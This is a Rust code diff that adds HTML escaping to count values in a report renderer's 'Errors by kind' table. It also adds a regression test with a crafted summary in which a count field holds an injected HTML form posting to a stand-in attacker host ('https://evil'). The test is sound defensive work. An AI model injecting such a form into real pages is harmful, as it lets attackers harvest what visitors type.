@@ -93,7 +93,7 @@ pub fn render(run: &Run) -> String {
     if let Some(Value::Object(kinds)) = s.section("errors_by_kind") {
         if !kinds.is_empty() {
             let rows: Vec<Vec<String>> =
-                kinds.iter().map(|(k, v)| vec![esc(k), scalar(v)]).collect();
+                kinds.iter().map(|(k, v)| vec![esc(k), esc(&scalar(v))]).collect();
             html.push_str("<h3>Errors by kind</h3>\n");
             html.push_str(&table("errors", &["kind", "requests"], &rows));
         }
@@ -132,5 +132,18 @@ mod tests {
         assert!(f.contains(&("speedup".into(), "2.50".into())));
         assert!(f.contains(&("tags".into(), "a, b".into())));
         assert!(f.contains(&("per_gpu[0].util".into(), "50".into())));
+    }
+
+    #[test]
+    fn a_crafted_summary_puts_no_markup_into_the_page() {
+        // Someone else's artifacts: a string where a count belongs.
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("records.jsonl"), "").unwrap();
+        let form = "<form action=https://evil><input name=p></form>";
+        let summary = serde_json::json!({"errors_by_kind": {"timeout": form}});
+        std::fs::write(dir.path().join("summary.json"), summary.to_string()).unwrap();
+        let html = render(&Run::load(dir.path()).unwrap());
+        assert!(!html.contains("<form"), "{html}");
+        assert!(html.contains("&lt;form"), "{html}");
     }
 }
